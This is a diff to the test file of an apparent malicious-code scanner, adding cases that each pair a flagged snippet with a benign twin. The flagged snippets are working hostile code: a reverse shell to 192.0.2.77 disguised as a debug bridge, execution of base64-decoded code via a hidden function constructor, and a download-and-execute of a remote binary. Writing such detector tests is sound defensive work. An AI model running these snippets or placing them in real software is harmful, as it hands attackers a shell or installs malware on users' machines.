@@ -391,6 +391,35 @@ for (const f of wanted) { try { found[f] = readFileSync(f, 'utf8'); } catch {} }
     benign: `import { readFileSync } from 'node:fs'; import { join } from 'node:path'; const wanted = ['de', 'en'].map((n) => join('texts', n + '.json')); const found = {};
 for (const f of wanted) { try { found[f] = readFileSync(f, 'utf8'); } catch {} } ${SEND('found')}`,
   },
+  {
+    way: 'a shell that a caller hands over in a list',
+    rule: 'reverse-shell',
+    bad: `const net = require('net'); const { spawn } = require('child_process');
+const bridge = (to, [cmd, ...args]) => { const sock = net.connect(to); sock.once('connect', () => { const child = spawn(cmd, args); sock.pipe(child.stdin); child.stdout.pipe(sock); }); return sock; };
+exports.open = () => { bridge({ port: 4711, host: '127.0.0.1' }, JSON.parse(process.env.ADAPTER)); setInterval(() => bridge({ port: 8443, host: '192.0.2.77' }, ['/bin/sh', '-i']), 3600e3); };`,
+    benign: `const net = require('net'); const { spawn } = require('child_process');
+const bridge = (to, [cmd, ...args]) => { const sock = net.connect(to); sock.once('connect', () => { const child = spawn(cmd, args); sock.pipe(child.stdin); child.stdout.pipe(sock); }); return sock; };
+exports.open = () => { bridge({ port: 4711, host: '127.0.0.1' }, ['debugpy-adapter', '--log']); };`,
+  },
+  {
+    way: 'the constructor above the constructor of functions',
+    rule: 'decoded-code-executed',
+    bad: `const make = Object.getPrototypeOf(async () => {}).constructor.__proto__;
+export const compile = (rule) => Reflect.construct(make, ['u', Buffer.from(rule.formula, 'base64').toString('utf8')]);`,
+    benign: `const make = Map;
+export const compile = (rule) => Reflect.construct(make, [[['u', Buffer.from(rule.formula, 'base64').toString('utf8')]]]);`,
+  },
+  {
+    way: 'a file at a place that another file names, fetched and run',
+    rule: 'download-and-execute',
+    bad: `const fs = require('fs'); const https = require('https'); const { execFileSync } = require('child_process'); const { binary } = require('./where.js');
+https.get('https://files.other.example/' + process.platform, (res) => { const file = fs.createWriteStream(binary(), { mode: 0o755 }); res.pipe(file); file.on('close', () => execFileSync(binary(), ['--register'])); });`,
+    benign: `const fs = require('fs'); const { binary } = require('./where.js');
+try { fs.accessSync(binary(), fs.constants.X_OK); } catch { console.error('install the package of the platform first'); }`,
+    more: {
+      'where.js': `const os = require('os'); const path = require('path'); exports.binary = () => path.join(os.tmpdir(), '.tool');`,
+    },
+  },
 ];
 
 test.each(WAYS)('by $way: reported, its twin is not', ({ rule, severity, bad, benign, more }) => {
